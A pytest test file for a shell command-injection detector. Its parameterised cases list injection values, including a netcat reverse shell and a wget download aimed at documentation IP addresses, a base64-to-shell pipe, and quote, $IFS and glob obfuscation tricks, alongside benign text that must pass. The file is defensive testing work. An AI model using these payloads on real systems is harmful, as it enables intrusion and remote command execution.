"""Values in, whether they bring a command into command position out."""

import pytest

from core.field import Field
from detection.shell import fold, runs_command


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (b"w'h'o'am'i", b"whoami"),
        (b"wh''oami", b"whoami"),
        (b"c\\at$IFS/x", b"cat /x"),
        (b"cu$@rl", b"curl"),
        (b"${IFS}id", b" id"),
        (b"who$()ami", b"whoami"),
        (b"plain text", b"plain text"),
    ],
)
def test_fold(value: bytes, expected: bytes) -> None:
    assert fold(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        b"x=8.8.8.8;cat /srv/a",
        b"x=a|whoami",
        b"x=a&&uname -a",
        b"x=$(hostname)",
        b"x=`ifconfig`",
        b"x=||ping -n 9 198.51.100.2",
        b"x=;w'h'oami",
        b"x=a;wget http://203.0.113.4/m",
        b"x=/usr/bin/id",
        b"x=nc -e /bin/sh 203.0.113.4 99",
        b"x=echo aWQ=|base64 -d|sh",
        b"x=/b?n/c?t /srv/a",
        b"x=a\x0bid",
        b"x=perl -e 'print 7'",
        b"x=;{cat,/srv/a}",
    ],
)
def test_commands(value: bytes) -> None:
    assert runs_command(value, Field.QUERY)


@pytest.mark.parametrize(
    "value",
    [
        b"q=salt; pepper and a cat",
        b"q=cats & dogs",
        b"q=who is the host",
        b"q=find time; sort it out",
        b"a=1&id=5",
        b"q=R&D",
        b"q=more | less",
        b"q=use `id` as the key",
        b"q=time is up",
        b"q=I like to type",
        b"q=price $5 (about)",
        b"q=AT&T net",
        b"u=a&date=3&time=4",
        b"q=100% (sleep well)",
        b"q=[a] {b} (c)",
        b"q=path/to/thing",
        b"q=echo chamber",
        b"q=kill bill",
    ],
)
def test_language(value: bytes) -> None:
    assert not runs_command(value, Field.QUERY)


@pytest.mark.parametrize(
    "agent", [b"Opera/9.80 (MTK; U; id) Presto/2.8", b"Mozilla/5.0 (X11; Linux x86_64; rv:1) Gecko", b"a (b; ps; c)"]
)
def test_agents_are_full_of_semicolons(agent: bytes) -> None:
    assert not runs_command(agent, Field.USER_AGENT)
